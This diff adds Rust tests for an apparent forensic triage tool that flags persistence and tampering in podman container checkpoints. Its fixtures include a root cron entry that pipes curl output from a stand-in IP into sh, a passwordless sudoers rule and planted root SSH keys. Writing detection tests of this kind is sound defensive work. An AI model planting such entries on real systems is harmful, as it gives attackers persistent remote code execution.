@@ -1,19 +1,24 @@
 //! What was written, changed and deleted.
 
-use ckpt_analysis::triage::{Finding, Severity};
+use ckpt_analysis::triage::{Confidence, Finding, Severity, TriageOptions, triage};
 use ckpt_model::Checkpoint;
-use ckpt_synth::{Archive, Dump, File, Kind, Member, Task};
+use ckpt_synth::{Archive, Container, Dump, File, Kind, Member, Task};
 
 use crate::triage::findings;
+use crate::triage::{BEFORE, CREATED, MADE};
 use crate::{dump, init, open};
 
 /// A podman checkpoint with this diff and these deletions.
 fn with_diff(members: Vec<Member>, deleted: &[&str]) -> Checkpoint {
+    with_diff_of(&dump([init()]), members, deleted)
+}
+
+fn with_diff_of(dump: &Dump, members: Vec<Member>, deleted: &[&str]) -> Checkpoint {
     let mut diff = Archive::new();
     for member in members {
         diff.push(member);
     }
-    let mut archive = Archive::podman(&dump([init()]));
+    let mut archive = Archive::podman(dump);
     archive.replace("rootfs-diff.tar", diff.tar());
     archive.replace("deleted.files", format!("{deleted:?}").into_bytes());
     open(&archive)
@@ -475,6 +480,116 @@ fn programs_that_were_brought() {
     severity(&found, system, "/usr/local/bin/tool", Severity::Medium);
     severity(&found, system, "/usr/lib/x86_64-linux-gnu/libc.so.6", Severity::High);
     assert_eq!(of(&found, brought).len() + of(&found, system).len(), 9);
+}
+
+/// Jobs, services and keys of a container that ran on for long; its settings of sudo and its order of init scripts.
+#[test]
+fn what_a_container_writes_when_it_starts() {
+    let key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI me@laptop\n";
+    let job = "0 3 * * * /usr/local/bin/backup\n";
+    let soon = MADE + 20;
+    let mut long = dump([init()]);
+    let container = Container::new("app").command(&["tini", "--", "app"]);
+    long.container(container.times(CREATED, "2026-11-23T02:00:00Z", MADE + 1084));
+    let found = findings(&with_diff_of(
+        &long,
+        vec![
+            Member::file("etc/crontabs/root", job).mtime(soon),
+            Member::file("etc/crontabs/app", job).mtime(soon + 90),
+            Member::file("etc/cron.d/x", "* * * * * root curl http://192.0.2.7|sh\n").mtime(soon),
+            Member::file("home/git/.ssh/authorized_keys", key).mtime(soon),
+            Member::file("root/.ssh/authorized_keys", key).mtime(soon + 90),
+            Member::file("etc/init.d/.depend.start", "TARGETS = x\n").mtime(soon),
+            Member::file("etc/init.d/.x", "#!/bin/sh\n/usr/bin/x\n").mtime(soon),
+            Member::file("etc/sudoers", "root ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n"),
+            Member::file("etc/sudoers.d/a", "%sudo ALL=(ALL:ALL) NOPASSWD: ALL\n"),
+            Member::file("etc/sudoers.d/b", "app ALL=(ALL) ALL\n"),
+        ],
+        &[],
+    ));
+    let (cron, ssh, sudo) = ("persistence-cron", "persistence-ssh-key", "persistence-sudoers");
+    severity(&found, cron, "/etc/crontabs/root", Severity::Medium);
+    severity(&found, cron, "/etc/crontabs/app", Severity::High);
+    severity(&found, cron, "/etc/cron.d/x", Severity::Critical);
+    severity(&found, ssh, "/home/git/.ssh/authorized_keys", Severity::Medium);
+    severity(&found, ssh, "/root/.ssh/authorized_keys", Severity::High);
+    severity(&found, "persistence-init", "/etc/init.d/.depend.start", Severity::Medium);
+    severity(&found, "persistence-init", "/etc/init.d/.x", Severity::High);
+    severity(&found, sudo, "/etc/sudoers", Severity::Medium);
+    severity(&found, sudo, "/etc/sudoers.d/a", Severity::High);
+    severity(&found, sudo, "/etc/sudoers.d/b", Severity::High);
+    // Of a container that was just started the time says nothing.
+    let keys = Member::file("root/.ssh/authorized_keys", key).mtime(soon);
+    let found = findings(&with_diff(vec![keys], &[]));
+    severity(&found, ssh, "/root/.ssh/authorized_keys", Severity::High);
+}
+
+/// A change of mode copies a program into the diff with the time that it had.
+#[test]
+fn programs_that_are_older_than_the_container() {
+    let found = findings(&with_diff(
+        vec![
+            Member::file("usr/bin/tini", elf(9)).mode(0o755).mtime(BEFORE),
+            Member::file("usr/bin/other", elf(9)).mode(0o755).mtime(MADE + 5),
+        ],
+        &[],
+    ));
+    let id = "system-program-written";
+    severity(&found, id, "/usr/bin/tini", Severity::Medium);
+    assert_eq!(the(&found, id, "/usr/bin/tini").confidence, Confidence::Low);
+    severity(&found, id, "/usr/bin/other", Severity::High);
+}
+
+/// Files of Rust's `tempfile`, and archives with a dot.
+#[test]
+fn temporary_files_with_a_dot() {
+    let found = findings(&with_diff(
+        vec![
+            Member::file("tmp/.tmpAb12Cd", "PK\x03\x04 and so on"),
+            Member::file("tmp/.tmpEf34Gh/lib.so", elf(0)),
+            Member::file("tmp/.tmpIj56Kl/run", elf(9)).mode(0o755),
+            Member::file("tmp/.loot", "PK\x03\x04 and so on"),
+            Member::file("tmp/.tmp/run", elf(9)).mode(0o755),
+        ],
+        &[],
+    ));
+    let (hidden, brought) = ("hidden-file", "executable-in-writable-place");
+    severity(&found, hidden, "/tmp/.loot", Severity::Medium);
+    severity(&found, hidden, "/tmp/.tmp", Severity::High);
+    assert_eq!(of(&found, hidden).len(), 2);
+    severity(&found, brought, "/tmp/.tmpEf34Gh/lib.so", Severity::Low);
+    severity(&found, brought, "/tmp/.tmpIj56Kl/run", Severity::High);
+}
+
+/// The image says whether a log was emptied or made anew.
+#[test]
+fn empty_logs_beside_the_image() {
+    let logs = ["var/log/auth.log", "var/log/app.log", "var/log/dpkg.log"];
+    let new = ["var/log/syslog", "var/log/btmp"];
+    let mut image = Archive::new();
+    for log in logs {
+        image.member(log, b"lines");
+    }
+    let manifest = r#"[{"Config":"config.json","RepoTags":["a:1"],"Layers":["layer.tar"]}]"#;
+    let config =
+        br#"{"architecture":"amd64","os":"linux","rootfs":{"type":"layers","diff_ids":[]}}"#;
+    let mut base = Archive::new();
+    base.member("layer.tar", image.tar()).member("config.json", config);
+    base.member("manifest.json", manifest);
+    let folder = tempfile::tempdir().unwrap();
+    let path = folder.path().join("base.tar");
+    std::fs::write(&path, base.tar()).unwrap();
+    let members = logs.into_iter().chain(new).map(|log| Member::file(log, ""));
+    let checkpoint = with_diff(members.collect(), &[]);
+    let found = triage(&checkpoint, &TriageOptions::default().base(&path)).unwrap().findings;
+    let id = "logs-deleted";
+    severity(&found, id, "/var/log/auth.log", Severity::High);
+    severity(&found, id, "/var/log/app.log", Severity::Medium);
+    severity(&found, id, "/var/log/dpkg.log", Severity::Low);
+    severity(&found, id, "/var/log/syslog", Severity::Info);
+    severity(&found, id, "/var/log/btmp", Severity::Info);
+    let text = format!("{found:?}");
+    assert!(!text.contains("nothing tells"), "{text}");
 }
 
 #[test]
